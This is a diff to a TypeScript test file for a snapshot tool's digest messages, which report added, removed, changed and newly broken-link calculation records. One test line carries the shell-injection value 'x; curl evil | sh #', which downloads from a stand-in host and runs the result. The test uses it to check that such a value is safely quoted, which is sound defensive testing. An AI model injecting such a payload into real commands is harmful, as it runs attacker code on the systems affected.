@@ -7,18 +7,30 @@ import { publishedRuns } from '../../../lib/snapshot/changes/published-runs.ts';
 import { changesKey } from '../../../lib/snapshot/keys.ts';
 import type { Manifest } from '../../../lib/snapshot/manifest.ts';
 import { monday, publishLines, tuesday } from '../../snapshot/changes/publish-lines.ts';
-import { createMemoryStore } from '../../store/memory-store.ts';
+import { createMemoryStore, type MemoryStore } from '../../store/memory-store.ts';
 
-/** The digest of Tuesday's run, with these changes against Monday's. */
-async function digestOf(changes: readonly Change[], manifest: Partial<Manifest> = {}) {
+/** The digest of Tuesday's run, with these changes against Monday's: its records are those of the changes. */
+async function digestOf(
+  changes: readonly Change[],
+  manifest: Partial<Manifest> = {},
+  prepare: (store: MemoryStore) => Promise<unknown> = async () => undefined,
+) {
   const store = createMemoryStore();
-  await publishLines(store, { run: monday, manifest: { missing: [{ id: '5', status: 404 }] } });
+  await prepare(store);
+  const before = changes.flatMap((change) => ('before' in change ? [change.before] : []));
+  const after = changes.flatMap((change) => ('after' in change ? [change.after] : []));
+  await publishLines(store, {
+    run: monday,
+    lines: before,
+    manifest: { missing: [{ id: '5', status: 404 }] },
+  });
   const count = (what: string) => changes.filter(({ change }) => change === what).length;
   const counts = { added: count('added'), removed: count('removed'), changed: count('changed') };
   const key = changesKey('calculations', tuesday, monday.id);
   await publishLines(store, {
     run: tuesday,
-    manifest: { records: 1_234, changes: { against: monday.id, ...counts, key }, ...manifest },
+    lines: after,
+    manifest: { changes: { against: monday.id, ...counts, key }, ...manifest },
   });
   const lines = changes.map((change) => `${printChange(change)}\n`).join('');
   await store.put(key, gzipSync(lines));
@@ -42,7 +54,7 @@ test('what a manifest says is a word of the command in a digest, whatever it is'
   expect(text).toContain(`platform-sync diff calculations 'x; curl evil | sh #' ${tuesday.id}`);
 });
 
-test('a digest says what changed in words, the broken references first', async () => {
+test('a digest says what changed in words, what is newly broken first', async () => {
   const { subject, text } = await digestOf(
     [
       { change: 'added', key: '1', after: record('1', 'New') },
@@ -57,7 +69,7 @@ test('a digest says what changed in words, the broken references first', async (
       {
         change: 'changed',
         key: '4',
-        before: record('4', 'Sales', links('VALID', 'ILLEGAL_REFERENCE')),
+        before: record('4', 'Sales', links('VALID')),
         after: record('4', 'Sales', links('ILLEGAL_REFERENCE', 'ILLEGAL_REFERENCE')),
         fields: ['links'],
       },
@@ -70,18 +82,21 @@ test('a digest says what changed in words, the broken references first', async (
     },
   );
 
-  expect(subject).toBe('calculations of acme.example.com: 1 newly broken, 1 added, 1 removed, 2 changed');
+  expect(subject).toBe(
+    'calculations of acme.example.com: new: 1 with broken links, 1 added, 1 removed, 2 changed',
+  );
   expect(text.split('\n')).toEqual([
     `calculations: run ${tuesday.id} was published.`,
     '',
     'Platform: acme.example.com',
     'Taken: 2026-11-17 09:00 to 2026-11-17 09:00 UTC',
-    'Records: 1,234',
+    'Records: 3',
     `Since run ${monday.id}: 1 added, 1 removed, 2 changed`,
+    'Wrong in all: 1 with broken links, 0 invalid, 0 missing a target, 0 affected',
     '',
-    'Newly broken references: 1',
-    '  Sales (4)',
-    '    DATA_SOURCE d0 is ILLEGAL_REFERENCE',
+    'New: a link of theirs is not valid: 1',
+    '  calculation Sales (4)',
+    '    saved on dataset d0: ILLEGAL_REFERENCE',
     '',
     'Removed: 1',
     '  removed Old (2)',
@@ -151,9 +166,15 @@ test('a first run, one that nothing changed in, and one that was forced say so',
   const same = await digestOf([]);
   const forced = await digestOf([], { forced: true, refused: ['shrunk'], consistency: 'best-effort' });
 
-  expect(first.subject).toBe('calculations of acme.example.com: 1,234 records');
+  expect(first.subject).toBe('calculations of acme.example.com: 0 records');
   expect(first.text).toContain('It was compared with no other run.');
   expect(same.text).toContain(`Nothing has changed since run ${monday.id}.`);
   expect(forced.text).toContain('It was published by force, although refused: shrunk');
   expect(forced.text).toContain('It is not proved that it is complete.');
+});
+
+test('a run of the other source that is damaged holds up no digest', async () => {
+  const { text } = await digestOf([], {}, (store) => store.put('cards/latest.json', Buffer.from('{}')));
+
+  expect(text).toContain('What is broken is not known: see the faults of the report.');
 });
